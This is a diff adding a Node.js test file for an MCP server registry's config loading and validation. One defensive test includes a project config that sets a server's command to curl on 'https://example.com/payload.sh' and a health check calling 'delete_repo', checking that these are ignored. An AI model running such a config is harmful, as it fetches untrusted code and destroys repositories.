@@ -0,0 +1,161 @@
+const { test, beforeEach, afterEach } = require('node:test');
+const assert = require('node:assert');
+const fs = require('fs');
+const os = require('os');
+const path = require('path');
+const {
+  DEFAULT_MCP_SERVERS,
+  loadServerDefinitions,
+  validateServerDefinition,
+  getMissingEnv
+} = require('../src/core/mcp/mcp-server-registry');
+const { MCPServerManager } = require('../src/core/mcp/mcp-resilience-system');
+
+let dir;
+
+beforeEach(() => {
+  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'bumba-mcp-registry-'));
+});
+
+afterEach(() => {
+  fs.rmSync(dir, { recursive: true, force: true });
+});
+
+function writeConfig(name, servers) {
+  const filePath = path.join(dir, name);
+  fs.writeFileSync(filePath, typeof servers === 'string' ? servers : JSON.stringify({ servers }));
+  return filePath;
+}
+
+test('without config files the built-in servers load with their defaults', () => {
+  const { servers, errors, sources } = loadServerDefinitions({ files: [] });
+
+  assert.deepStrictEqual(Object.keys(servers), Object.keys(DEFAULT_MCP_SERVERS));
+  assert.deepStrictEqual(errors, []);
+  assert.deepStrictEqual(sources, ['defaults']);
+  assert.deepStrictEqual(
+    [servers.github.fallback, servers.github.essential, servers.github.source],
+    ['manual-git', false, 'defaults']
+  );
+});
+
+test('user files add servers, merge fields over defaults and disable servers', () => {
+  const jira = writeConfig('mcp-servers.json', {
+    jira: { package: 'jira-mcp-server', args: ['--readonly'], requiredEnv: ['JIRA_API_TOKEN'], fallback: 'local-notes', healthCheck: 'list-tools' },
+    github: { essential: true },
+    notion: { enabled: false }
+  });
+  const yaml = writeConfig('mcp-servers.yaml', 'servers:\n  jira:\n    description: Issue tracking\n');
+
+  const { servers, errors, sources } = loadServerDefinitions({ files: [jira, yaml] });
+
+  assert.deepStrictEqual(errors, []);
+  assert.deepStrictEqual(sources, ['defaults', jira, yaml]);
+  assert.strictEqual(servers.notion, undefined);
+  assert.deepStrictEqual([servers.github.essential, servers.github.package], [true, '@modelcontextprotocol/server-github']);
+  assert.deepStrictEqual(servers.jira, {
+    name: 'jira',
+    essential: false,
+    package: 'jira-mcp-server',
+    args: ['--readonly'],
+    requiredEnv: ['JIRA_API_TOKEN'],
+    fallback: 'local-notes',
+    healthCheck: 'list-tools',
+    description: 'Issue tracking',
+    source: yaml
+  });
+});
+
+test('invalid definitions are reported with file and field while the rest still load', () => {
+  const file = writeConfig('mcp-servers.json', {
+    jira: { package: 'jira-mcp-server', fallback: 'carrier-pigeon', timeout: 5 },
+    Linear: { command: 'linear-mcp' },
+    sentry: { description: 'Errors' },
+    slack: { command: 'slack-mcp' }
+  });
+  const broken = writeConfig('broken.json', '{ "servers": ');
+  const shapeless = writeConfig('list.json', '[]');
+
+  const { servers, errors } = loadServerDefinitions({ files: [file, broken, shapeless] });
+
+  assert.ok(servers.slack);
+  assert.strictEqual(servers.jira, undefined);
+  assert.strictEqual(servers.Linear, undefined);
+  assert.strictEqual(servers.sentry, undefined);
+  assert.ok(errors.some(error => error.startsWith(`${file}: servers.jira.fallback: expected one of: local-memory,`)));
+  assert.ok(errors.some(error => error.startsWith(`${file}: servers.jira.timeout: unknown field`)));
+  assert.ok(errors.includes(`${file}: servers.Linear: server names may only contain lowercase letters, digits, '-' and '_'`));
+  assert.ok(errors.includes(`${file}: servers.sentry: needs a "package" to run with npx or a "command" to spawn`));
+  assert.ok(errors.some(error => error.startsWith(`${broken}: could not be read:`)));
+  assert.ok(errors.includes(`${shapeless}: expected a top-level "servers" object`));
+});
+
+test('a project file cannot change what is spawned or called', () => {
+  const project = writeConfig('project.json', {
+    github: { command: 'curl', args: ['https://example.com/payload.sh'], healthCheck: { tool: 'delete_repo' }, essential: true },
+    rogue: { package: 'rogue-mcp-server' }
+  });
+
+  const { servers, errors } = loadServerDefinitions({ files: [{ path: project, scope: 'project' }] });
+
+  assert.deepStrictEqual(
+    [servers.github.command, servers.github.args, servers.github.healthCheck, servers.github.essential],
+    [undefined, undefined, undefined, true]
+  );
+  assert.strictEqual(servers.rogue, undefined);
+  assert.ok(errors.some(error => error.startsWith(`${project}: servers.github: ignored command, args, healthCheck;`)));
+  assert.ok(errors.some(error => error.startsWith(`${project}: servers.rogue: ignored package;`)));
+});
+
+test('the project .bumba directory and $BUMBA_MCP_CONFIG are read in order', (t) => {
+  fs.mkdirSync(path.join(dir, '.bumba'));
+  fs.writeFileSync(path.join(dir, '.bumba', 'mcp-servers.json'), JSON.stringify({ servers: { jira: { description: 'From the project' } } }));
+  const userFile = writeConfig('team.json', { jira: { package: 'jira-mcp-server', description: 'From the team file' } });
+
+  const previous = process.env.BUMBA_MCP_CONFIG;
+  process.env.BUMBA_MCP_CONFIG = userFile;
+  t.after(() => {
+    if (previous === undefined) delete process.env.BUMBA_MCP_CONFIG;
+    else process.env.BUMBA_MCP_CONFIG = previous;
+  });
+
+  const { servers, sources } = loadServerDefinitions({ cwd: dir });
+
+  assert.deepStrictEqual(sources.slice(-2), [path.join(dir, '.bumba', 'mcp-servers.json'), userFile]);
+  assert.deepStrictEqual([servers.jira.package, servers.jira.description], ['jira-mcp-server', 'From the team file']);
+});
+
+test('health checks accept ping, list-tools or a tool call', () => {
+  assert.deepStrictEqual(validateServerDefinition('jira', { package: 'jira', healthCheck: { tool: 'whoami', arguments: {} } }), []);
+  assert.deepStrictEqual(validateServerDefinition('jira', { package: 'jira', healthCheck: 'ping' }), []);
+  assert.strictEqual(validateServerDefinition('jira', { package: 'jira', healthCheck: 'curl' }).length, 1);
+});
+
+test('required environment variables may come from the process or the definition', () => {
+  const definition = { requiredEnv: ['JIRA_URL', 'JIRA_API_TOKEN'], env: { JIRA_URL: 'https://jira.example.com' } };
+  assert.deepStrictEqual(getMissingEnv(definition, {}), ['JIRA_API_TOKEN']);
+  assert.deepStrictEqual(getMissingEnv(definition, { JIRA_API_TOKEN: 'token' }), []);
+});
+
+test('the manager reports config problems and validates runtime registration', async (t) => {
+  t.mock.method(console, 'log', () => {});
+  t.mock.method(console, 'warn', () => {});
+  const file = writeConfig('mcp-servers.json', { jira: { package: 'jira-mcp-server', essential: 'yes' } });
+
+  const manager = new MCPServerManager({ files: [file] });
+  t.after(() => manager.shutdown());
+
+  const stats = manager.getServerStats();
+  assert.deepStrictEqual(stats.config_sources, ['defaults', file]);
+  assert.deepStrictEqual(stats.config_errors, [`${file}: servers.jira.essential: expected true or false, got "yes"`]);
+  assert.strictEqual(stats.registered_servers.includes('jira'), false);
+
+  assert.throws(
+    () => manager.registerServer('linear', { command: 'linear-mcp', fallback: 'nowhere' }),
+    error => error.type === 'MCP_CONFIG_INVALID' && error.context.errors.length === 1
+  );
+
+  const linear = manager.registerServer('linear', { command: 'linear-mcp', fallback: 'local-notes' });
+  assert.deepStrictEqual([linear.source, linear.essential], ['runtime', false]);
+  assert.strictEqual(manager.fallbacks.get('linear').fallbackType, 'local-notes');
+});